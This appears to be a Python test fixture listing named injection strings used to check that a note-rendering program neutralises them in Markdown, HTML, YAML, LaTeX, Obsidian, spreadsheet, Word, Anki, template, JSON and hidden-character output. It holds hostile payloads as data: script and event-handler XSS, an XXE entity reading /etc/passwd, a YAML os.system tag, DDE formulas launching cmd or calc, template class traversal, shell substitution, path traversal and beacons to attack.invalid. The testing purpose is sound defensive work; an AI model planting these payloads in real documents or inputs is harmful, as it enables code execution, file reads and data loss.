r"""Named attack strings: what a source could hold to act in a program that shows the notes.

Every format's tests put each of them through a notebook and look at the *rendered* result.
``target`` says where the string would act (``GROUPS``); it must be inert everywhere all the
same, since one text goes into every format. Beacons go to ``attack.invalid``, a name that
no resolver answers; scripts call ``alert(1)`` or set ``window.pwned``.
"""

from __future__ import annotations

from typing import NamedTuple

GROUPS = (
    "markdown",
    "html",
    "yaml",
    "math",
    "obsidian",
    "table",
    "word",
    "anki",
    "template",
    "json",
    "hidden",
)
"""Where an attack would act."""


class Attack(NamedTuple):
    """One string, the name it goes by in test reports and the format it was made for."""

    name: str
    target: str
    text: str


ATTACKS: tuple[Attack, ...] = (
    # Markdown within a line
    Attack("strong", "markdown", "**粗**"),
    Attack("emphasis", "markdown", "*斜*_斜_"),
    Attack("struck out", "markdown", "~~删~~"),
    Attack("code span", "markdown", "`码`与``码``"),
    Attack("escape", "markdown", "\\*不转义\\"),
    Attack("script link", "markdown", "[链](javascript:alert(1))"),
    Attack("link", "markdown", "[链](https://attack.invalid/a 'x')"),
    Attack("image beacon", "markdown", "![图](https://attack.invalid/a.png)"),
    Attack("reference link", "markdown", "[引][a]\n\n[a]: https://attack.invalid/ 'x'"),
    Attack("autolink in brackets", "markdown", "<https://attack.invalid/a>"),
    Attack("bare address", "markdown", "https://attack.invalid/a"),
    Attack("www address", "markdown", "www.attack.invalid/a"),
    Attack("mail address", "markdown", "<mail@attack.invalid>"),
    Attack("footnote mark", "markdown", "[^1]"),
    Attack("footnote text", "markdown", "甲\n\n[^1]: 假注"),
    Attack("forged footnote of ours", "markdown", "[^¶1]\n\n[^¶1]: 假依据"),
    Attack("inline footnote", "markdown", "^[假注]"),
    Attack("forged place mark", "markdown", "[¶1](#第1段第1句)"),
    Attack("task", "markdown", "- [x] 已办"),
    # Markdown blocks
    Attack("heading", "markdown", "# 假题"),
    Attack("heading of ours", "markdown", "甲\n\n## 依据\n\n###### 第1段第1句"),
    Attack("setext heading", "markdown", "甲\n==="),
    Attack("bullet", "markdown", "- 项"),
    Attack("numbered", "markdown", "1. 项"),
    Attack("block quote", "markdown", "> 引"),
    Attack("rule", "markdown", "---"),
    Attack("fence", "markdown", "```js\nalert(1)\n```"),
    Attack("tilde fence", "markdown", "~~~\n码"),
    Attack("indented code", "markdown", "    码\n\t码"),
    Attack("hard break", "markdown", "甲  \n乙\\\n丙"),
    Attack("definition list", "markdown", "甲\n: 乙"),
    # HTML
    Attack("script", "html", "<script>window.pwned=1;alert(1)</script>"),
    Attack("image error", "html", "<img src=x onerror=alert(1)>"),
    Attack("svg load", "html", "<svg/onload=alert(1)>"),
    Attack("svg in math", "html", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>"),
    Attack("frame", "html", "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>"),
    Attack("closing tags", "html", "</p></td></tr></table></section></body></html>"),
    Attack("closing script", "html", "</script><script>alert(1)</script>"),
    Attack("closing style", "html", "</style><style>body{display:none}</style>"),
    Attack("closing title", "html", "</title><script>alert(1)</script>"),
    Attack("closing textarea", "html", "</textarea><script>alert(1)</script>"),
    Attack("comment", "html", "<!-- 藏 -->甲--!>"),
    Attack("open comment", "html", "<!--<script>"),
    Attack("character data", "html", "<![CDATA[<script>alert(1)</script>]]>"),
    Attack("processing instruction", "html", "<?xml version='1.0'?><?php echo 1 ?>"),
    Attack("document type", "html", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;"),
    Attack("attribute in double quotes", "html", '" onmouseover="alert(1)" x="'),
    Attack("attribute in single quotes", "html", "' onfocus='alert(1)' autofocus '"),
    Attack("script address", "html", "<a href='javascript:alert(1)'>点</a>"),
    Attack("data address", "html", "<a href='data:text/html,<script>alert(1)</script>'>点</a>"),
    Attack("base", "html", "<base href='https://attack.invalid/'>"),
    Attack("refresh", "html", "<meta http-equiv=refresh content='0;url=https://attack.invalid/'>"),
    Attack("form", "html", "<form action=https://attack.invalid/><input name=a autofocus>"),
    Attack("style", "html", "<b style='position:fixed;inset:0'>盖</b>"),
    Attack("style import", "html", "<link rel=stylesheet href=https://attack.invalid/a.css>"),
    Attack("entity", "html", "&lt;script&gt;&#60;b&#62;&#x3c;i&#x3e;&nbsp;&copy"),
    Attack("double entity", "html", "&amp;lt;script&amp;gt;"),
    Attack("less than", "html", "a<b 且 c>d & e"),
    # YAML
    Attack("yaml key", "yaml", "a: b"),
    Attack("yaml end", "yaml", "甲\n---\nkind: 假\n---\n乙"),
    Attack("yaml document end", "yaml", "甲\n...\nkind: 假"),
    Attack("yaml quote", "yaml", '"\nkind: "假'),
    Attack("yaml flow", "yaml", "{a: 1, b: [2, 3]}"),
    Attack("yaml anchor", "yaml", "&甲 *甲"),
    Attack("yaml tag", "yaml", "!!python/object/apply:os.system ['true']"),
    Attack("yaml words", "yaml", "null"),
    Attack("yaml date", "yaml", "2024-01-01"),
    Attack("yaml directive", "yaml", "%YAML 1.2"),
    Attack("yaml block", "yaml", "|\n  甲\n"),
    # LaTeX and MathJax
    Attack("inline math", "math", "$x^2$"),
    Attack("display math", "math", "$$\\int x$$"),
    Attack("math in round brackets", "math", "\\(\\href{javascript:alert(1)}{x}\\)"),
    Attack("math in square brackets", "math", "\\[\\require{html}\\]"),
    Attack("environment", "math", "\\begin{equation}x\\end{equation}\\input{/etc/passwd}"),
    # Obsidian
    Attack("wikilink", "obsidian", "[[别的笔记]]"),
    Attack("wikilink with a name", "obsidian", "[[别的笔记#题|名]]"),
    Attack("embed", "obsidian", "![[别的笔记]]"),
    Attack("hidden comment", "obsidian", "%%藏%%"),
    Attack("open hidden comment", "obsidian", "甲 %% 乙"),
    Attack("highlight", "obsidian", "==亮=="),
    Attack("tag", "obsidian", "#标签"),
    Attack("tag within a line", "obsidian", "甲 #标签/下级 乙"),
    Attack("block id", "obsidian", "甲 ^p1"),
    Attack("callout", "obsidian", "> [!danger] 险\n> 甲"),
    Attack("callout mark", "obsidian", "[!note]"),
    Attack("alert of github", "obsidian", "[!WARNING]"),
    Attack("data field", "obsidian", "状态:: 完成"),
    Attack("inline data field", "obsidian", "[状态:: 完成]"),
    Attack("query", "obsidian", "```dataviewjs\napp.vault.delete()\n```"),
    Attack("inline query", "obsidian", "`= this.file.name` `$= alert(1)`"),
    Attack("templater", "obsidian", "<% tp.system.prompt() %>"),
    Attack("obsidian address", "obsidian", "obsidian://open?vault=甲"),
    # Tables and spreadsheets
    Attack("table", "table", "| a | b |\n| --- | --- |\n| x | y |"),
    Attack("cell", "table", "甲|乙\\|丙"),
    Attack("spreadsheet call", "table", "=cmd|' /C calc'!A0"),
    Attack("spreadsheet link", "table", '=HYPERLINK("https://attack.invalid/","点")'),
    Attack("spreadsheet plus", "table", "+1+cmd|' /C calc'!A0"),
    Attack("spreadsheet minus", "table", "-2+3+cmd|' /C calc'!A0"),
    Attack("spreadsheet at", "table", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Attack("cells", "table", '甲\t乙\r\n丙,"丁";戊'),
    # Word
    Attack("dde field", "word", '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }'),
    Attack("include field", "word", '{ INCLUDEPICTURE "https://attack.invalid/a.png" \\d }'),
    Attack("field characters", "word", '\x13 DDE "cmd" \x14甲\x15'),
    Attack("word markup", "word", '</w:t></w:r><w:fldSimple w:instr="DDE"/><w:r><w:t>'),
    Attack("rich text", "word", "{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd}}}"),
    Attack("xml end", "word", "]]>&甲;"),
    # Anki
    Attack("cloze", "anki", "{{c1::藏::提示}}"),
    Attack("cloze end", "anki", "}}甲{{"),
    Attack("sound", "anki", "[sound:a.mp3]"),
    Attack("anki latex", "anki", "[latex]\\input{/etc/passwd}[/latex]"),
    Attack("anki math", "anki", "[$]x[/$][$$]y[/$$]"),
    Attack("anki field", "anki", "{{FrontSide}}{{type:甲}}{{#乙}}"),
    Attack("anki reading", "anki", "[anki:tts lang=zh_CN]甲[/anki:tts]"),
    Attack("field separator", "anki", "甲\x1f乙"),
    # Templates
    Attack("expression", "template", "{{ 7 * 7 }}"),
    Attack("classes", "template", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    Attack("statement", "template", "{% for a in range(9) %}甲{% endfor %}"),
    Attack("raw end", "template", "{% endraw %}{{ 7 * 7 }}{% raw %}"),
    Attack("template comment", "template", "{# 藏 #}"),
    Attack("line statement", "template", "# for a in b\n%% set c = 1"),
    Attack("format", "template", "{0.__class__}%(a)s${b}$c"),
    # JSON and programs
    Attack("json end", "json", '"}],"essays":[]}'),
    Attack("json escape", "json", "\\u0022\\n\\"),
    Attack("line separators", "json", "甲\u2028乙\u2029丙\x85丁"),
    Attack("shell", "json", "$(touch 甲)`id`;|| true"),
    Attack("path", "json", "../../../etc/passwd"),
    Attack("windows path", "json", '..\\..\\CON.:甲*?<>|"'),
    # What cannot be seen
    Attack("bidi override", "hidden", "甲\u202e乙\u202c丙"),
    Attack("bidi isolate", "hidden", "甲\u2066乙\u2069\u200f丙\u061c"),
    Attack("zero width", "hidden", "零\u200b宽\u200c字\u200d符\u2060"),
    Attack("byte order mark", "hidden", "\ufeff头"),
    Attack("soft hyphen", "hidden", "软\xad连"),
    Attack("control characters", "hidden", "铃\x07退\x08空\x00删\x7f"),
    Attack("terminal", "hidden", "\x1b[31m红\x1b]8;;https://attack.invalid/\x07点\x1b]8;;\x07"),
    Attack("form feed", "hidden", "甲\x0c乙\x0b丙"),
    Attack("lone surrogate", "hidden", "半\ud800个"),
    Attack("tag characters", "hidden", "\U000e0041\U000e0042标"),
    Attack("blank letters", "hidden", "\u3164空\u115f白\u2800"),
    Attack("non-character", "hidden", "非\ufffe字\uffff符"),
    Attack("annotation", "hidden", "\ufff9甲\ufffa乙\ufffb"),
    Attack("hidden script", "hidden", "<scr\u200bipt>alert(1)</scr\u200bipt>"),
)
"""All attacks; ``test_injection.py`` holds their number above the promised one."""
